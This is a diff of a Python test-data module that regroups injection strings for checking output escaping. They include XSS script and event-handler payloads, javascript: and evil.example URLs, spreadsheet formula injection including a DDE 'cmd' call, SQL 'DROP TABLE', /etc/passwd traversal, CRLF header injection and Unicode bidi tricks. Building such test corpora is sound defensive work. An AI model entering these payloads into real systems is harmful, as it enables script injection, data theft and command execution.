@@ -1,41 +1,68 @@
-"""Texts that would do harm where they are not told apart from markup, code, addresses or marks of ours."""
+"""Texts that would do harm where they are not told apart from markup, code, addresses or marks of ours.
 
-SCRIPT = "<script>alert({0})</script>"
+The mark § stands for the number that tells where a text was put; no two texts are the same without it."""
 
-_SHAPES = [
-    SCRIPT, "</title><script>alert({0})</script>", "</h1></main></body><script>alert({0})</script>",
-    '"><script>alert({0})</script>', "'><img src=x onerror=alert({0})>", '" onmouseover="alert({0})',
-    "' autofocus onfocus='alert({0})", "<img src=x onerror=alert({0})>", "<svg onload=alert({0})>",
-    "<svg><script>alert({0})</script></svg>", "<svg><animate onbegin=alert({0}) attributeName=x>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({0})>",
-    "<iframe srcdoc='<script>alert({0})</script>'>", "<object data=javascript:alert({0})>",
-    "<embed src=javascript:alert({0})>", "<body onload=alert({0})>", "<details open ontoggle=alert({0})>",
-    "<a href=javascript:alert({0})>点</a>", "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert({0})'>",
-    "<link rel=stylesheet href=//evil.example/{0}.css>", "<style>@import '//evil.example/{0}'</style>",
-    "<style>*{{display:none}}</style>{0}", "<noscript><p title='</noscript><img src=x onerror=alert({0})>'>",
-    "<template><script>alert({0})</script></template>", "<!--<img src='--><img src=x onerror=alert({0})>'>",
-    "--><script>alert({0})</script><!--", "]]><script>alert({0})</script>", "<![CDATA[<script>alert({0})]]>",
-    "<?php alert({0}) ?>", "<%= alert({0}) %>", "${{alert({0})}}", "#{{alert({0})}}",
-    "{{{{{{constructor.constructor('alert({0})')()}}}}}}", "{{{{#sections}}}}{0}{{{{/sections}}}}",
-    "{{{{>layout}}}}{0}", "{{{{t.home}}}}{0}", "{{{{=<% %>=}}}}{0}", "&lt;script&gt;alert({0})&lt;/script&gt;",
-    "&#60;script&#62;alert({0})&#60;/script&#62;", "&#x3c;script>alert({0})", "&colon;&lpar;{0}&rpar;",
-    "javascript:alert({0})", "JaVaScRiPt:alert({0})", "java\tscript:alert({0})", "data:text/html,<script>alert({0})",
-    "vbscript:msgbox({0})", "[点](javascript:alert({0}))", "[点](data:text/html;base64,PHNjcmlwdD4{0})",
-    "![图](javascript:alert({0}))", "[点](<javascript:alert({0})>)", "[点](&#106;avascript:alert({0}))",
-    "[点]( javascript:alert({0}) 'x')", "<javascript:alert({0})>", "![x\"onerror=\"alert({0})](a.png)",
-    "[x]: javascript:alert({0})", "`<script>alert({0})</script>`", "```html\n<script>alert({0})</script>",
-    "+ADw-script+AD4-alert({0})+ADw-/script+AD4-", "\ufeff<script>alert({0})</script>",
-    "<scr\u0000ipt>alert({0})</scr\u0000ipt>", "<scr<script>ipt>alert({0})</scr</script>ipt>",
-    "<ſcript>alert({0})</ſcript>", "＜script＞alert({0})＜/script＞", "\u202egnirts lortnoc {0}",
-    "\u2066isolated\u2069\u202a{0}", "a\u200bb\u200c\u200d{0}", "\u00ad\u034f{0}", "e\u0301\u0302\u0303\u0304{0}",
-    "👩‍👩‍👧‍👦{0}", "𠮷𡈽{0}", "\u0001{0}\u0002", "\u0003{0}", "\u001b[31m{0}", "=HYPERLINK(\"//evil.example/{0}\")",
-    "=cmd|'/c calc'!A{0}", "+{0}", "-{0}+1", "@SUM(A{0})", "＝1+{0}", "'; DROP TABLE cases;--{0}",
-    "../../etc/passwd{0}", "..\\..\\{0}", "%3Cscript%3Ealert({0})%3C/script%3E", "%00{0}", "{0}\r\nSet-Cookie: a=b",
-    "{0}\u2028\u2029", "---\n{0}", "- {0}: [", "!!python/object {0}", "&anchor *alias {0}", "\"{0}", "'{0}", "\\{0}\\",
-    "字" * 120 + "{0}", "W" * 120 + "{0}", "<b>{0}", "{0}</p></div></section></main>", "<h1>{0}</h1>", "<plaintext>{0}",
-    "<textarea>{0}", "<select><option>{0}", "<xmp>{0}", "<frameset><frame src=javascript:alert({0})>",
+SCRIPT = [
+    "<script>alert(§)</script>", "</title><script>alert(§)</script>", "</h1></main><script>alert(§)</script>",
+    "\"><script>alert(§)</script>", "'><script>alert(§)</script>", "<script src=//evil.example/§></script>",
+    "<script>alert(§)//", "<ScRiPt>alert(§)</sCrIpT>", "<script/x>alert(§)</script>", "<script\n>alert(§)</script>",
+    "</script><script>alert(§)</script>", "</textarea><script>alert(§)</script>", "]]><script>alert(§)</script>",
+    "</style><script>alert(§)</script>", "</noscript><script>alert(§)</script>", "<![CDATA[<script>alert(§)]]>",
+    "--><script>alert(§)</script><!--", "<!--<img src='--><img src=x onerror=alert(§)>'>", "<scr<script>ipt>alert(§)",
+    "<scr\0ipt>alert(§)</scr\0ipt>", "\ufeff<script>alert(§)</script>", "<ſcript>alert(§)</ſcript>",
+    "＜script＞alert(§)＜/script＞", "+ADw-script+AD4-alert(§)+ADw-/script+AD4-", "&lt;script&gt;alert(§)",
+    "&#60;script&#62;alert(§)", "&#x3c;script>alert(§)", "&lt;script>alert(§)", "&amp;lt;script&amp;gt;§",
+    "%3Cscript%3Ealert(§)%3C/script%3E", "\\u003cscript\\u003ealert(§)", "\\x3cscript\\x3ealert(§)", "<?php alert(§) ?>",
+    "<?xml-stylesheet href='//evil.example/§'?>", "<template><script>alert(§)</script>", "';alert(§);//", "\";alert(§);//",
+    "`;alert(§);//", "\\';alert(§);//", "*/alert(§)/*", "${alert(§)}", "#{alert(§)}", "<%= alert(§) %>",
+    "<script type=module>alert(§)</script>", "<script>/*§", "</script>§", "<noscript>§",
+]
+ATTRIBUTE = [
+    "\" onmouseover=\"alert(§)", "' autofocus onfocus='alert(§)", "\" autofocus onfocus=alert(§) x=\"", "x onload=alert(§)",
+    "<img src=x onerror=alert(§)>", "'><img src=x onerror=alert(§)>", "<img src='x'onerror=alert(§)>", "<img/src/onerror=alert(§)>",
+    "<img src=x onerror\n=alert(§)>", "<image src=x onerror=alert(§)>", "<input autofocus onfocus=alert(§)>", "<body onload=alert(§)>",
+    "<details open ontoggle=alert(§)>", "<video><source onerror=alert(§)>", "<audio src onerror=alert(§)>", "<select autofocus onfocus=alert(§)>",
+    "<textarea autofocus onfocus=alert(§)>", "<marquee onstart=alert(§)>", "<p style=animation-name:x onanimationstart=alert(§)>",
+    "<a id=x tabindex=1 onfocus=alert(§)>", "<div contenteditable onblur=alert(§)>", "\" id=\"Main§", "\" class=\"site§", "\" hidden x=\"§",
+    "\" lang=\"x§", "\" href=\"//evil.example/§", "\" aria-hidden=\"true§", "\" style=\"display:none§", "'\"><i>§", "\"§", "'§", "`§",
+    "\"'§'\"", "&quot;§", "&#34;§", "&apos; onload=alert(§)", "=§\"", "/>§", "\">§<\"",
+]
+URL = [
+    "javascript:alert(§)", "JaVaScRiPt:alert(§)", "java\tscript:alert(§)", "java\nscript:alert(§)", " javascript:alert(§)", "\u0001javascript:alert(§)",
+    "javascript&colon;alert(§)", "&#106;avascript:alert(§)", "javascript:/*§*/alert(1)", "vbscript:msgbox(§)", "data:text/html,<script>alert(§)</script>",
+    "data:text/html;base64,PHNjcmlwdD4§", "data:image/svg+xml,<svg onload=alert(§)>", "//evil.example/§", "\\\\evil.example\\§", "/\\evil.example/§",
+    "https://evil.example/§", "https://a:b@[::1]/§", "file:///etc/passwd#§", "../../etc/passwd§", "..\\..\\§", "%2e%2e/§", "%00§", "%0d%0aX:§",
+    "?q=§&x=<b>", "#§", "mailto:?bcc=§", "tel:§;phone-context=evil", "<base href=//evil.example/§/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/§'>", "<link rel=stylesheet href=//evil.example/§.css>", "<a href=javascript:alert(§)>点</a>",
+    "<iframe src=javascript:alert(§)>", "<iframe srcdoc='<script>alert(§)</script>'>", "<object data=javascript:alert(§)>", "<embed src=javascript:alert(§)>",
+    "<form action=javascript:alert(§)><button>", "<frameset><frame src=javascript:alert(§)>", "<img src=//evil.example/§>", "<area href=javascript:alert(§)>",
+]
+SVG = [
+    "<svg onload=alert(§)>", "<svg><script>alert(§)</script></svg>", "<svg><animate onbegin=alert(§) attributeName=x>", "</svg><script>alert(§)</script>",
+    "</text></svg><img src=x onerror=alert(§)>", "<svg><use href='data:image/svg+xml,§'/>", "<svg><a href=javascript:alert(§)><text>x", "</desc><script>alert(§)</script>",
+    "<svg><foreignObject><p onclick=alert(§)>", "<svg><set onend=alert(§)>", "<svg><style>@import'//evil.example/§'", "<math href=javascript:alert(§)>x</math>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(§)>", "<svg><image href=//evil.example/§>", "<svg><![CDATA[><img src=x onerror=alert(§)>]]>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(§)>'>", "&xxe;§", "<!DOCTYPE x [<!ENTITY e '§'>]>", "<text x=0>§</text>", "</title>§",
+]
+CSS = [
+    "<style>@import '//evil.example/§'</style>", "<style>*{display:none}</style>§", "expression(alert(§))", "url(//evil.example/§)", "}*{display:none}/*§", "</style>§",
+    "x:url(javascript:alert(§))", "<p style='position:fixed;inset:0'>§", "<p style=background:url(//evil.example/§)>", "-moz-binding:url(//evil.example/§)", "@charset \"§",
+    "\\65xpression(§)", "<style>§", "<style media=x>:root{--a:§", ";color:red§", "{§}", "<link rel=preload as=style href=//evil.example/§>",
+]
+MARKUP = [
+    "<b>§", "<i>§</i>", "<u>§", "<h1>§</h1>", "§</p></div></section></main>", "§</body></html>", "<plaintext>§", "<textarea>§", "<select><option>§", "<xmp>§",
+    "<!--§", "-->§", "<!§", "<§>", "</§>", "<>§", "< script>§", "<noscript><p title='</noscript><img src=x onerror=alert(§)>'>", "&§;", "&#§;", "&amp§", "&lt;b&gt;§",
+    "{{constructor.constructor('alert(§)')()}}", "{{#sections}}§{{/sections}}", "{{>layout}}§", "{{t.home}}§", "{{{t}}}§", "{{=<% %>=}}§", "{{§", "}}§", "__proto__§",
+    "%s%n§", "\\§\\", "$(§)", "'; DROP TABLE cases;--§", "---\n§", "- §: [", "!!python/object §", "&anchor *alias §", "%YAML §", "§: {", "# §", "* * *\n§", "> §", "1. §",
+]
+SHEET = ["=HYPERLINK(\"//evil.example/§\")", "=cmd|'/c calc'!A§", "+§", "-§+1", "@SUM(A§)", "\t=1+§", "\r=1+§", "＝1+§", "＋§", "－§", "＠§", "=§", "§,\"=1+1\"", "§\n=1+1",
+         "§\r\nSet-Cookie: a=b", "§\nBEGIN:VEVENT", "\";=1+§", "|§|", ",§", ";§"]
+UNICODE = [
+    "\u202egnirts lortnoc §", "\u2066isolated\u2069\u202a§", "a\u200bb\u200c\u200d§", "\u00ad\u034f§", "e\u0301\u0302\u0303\u0304§", "👩‍👩‍👧‍👦§", "𠮷𡈽§", "\u0001§\u0002", "\u0003§",
+    "\u001b[31m§", "§\u2028\u2029", "\ufffe§", "\uffff§", "\ufdd0§", "\ue000§", "\uf8ff§", "\U0010ffff§", "\U000e0041§", "\u0085§", "\u00a0§", "\u3000§", "\u007f§", "\u009b§", "\u0008§",
+    "\u000c§", "\ufff9a\ufffab\ufffb§", "İıſK§", "ﷺ§", "￥§", "\u115f§", "\u2800§", "𝐬𝐜𝐫𝐢𝐩𝐭§", "ʼ§＂", "‹script›§", "\u2215§", "字" * 100 + "§", "W" * 100 + "§", "\u0300" * 60 + "§",
+    "ا§ب", "\u061c§", "🇨🇳§", "㊙️§",
 ]
 
-STRINGS = [shape.format(number) for number in (1, 2) for shape in _SHAPES]
-assert len(set(STRINGS)) >= 200, len(set(STRINGS))
+STRINGS = SCRIPT + ATTRIBUTE + URL + SVG + CSS + MARKUP + SHEET + UNICODE
+assert len(set(STRINGS)) == len(STRINGS) >= 200
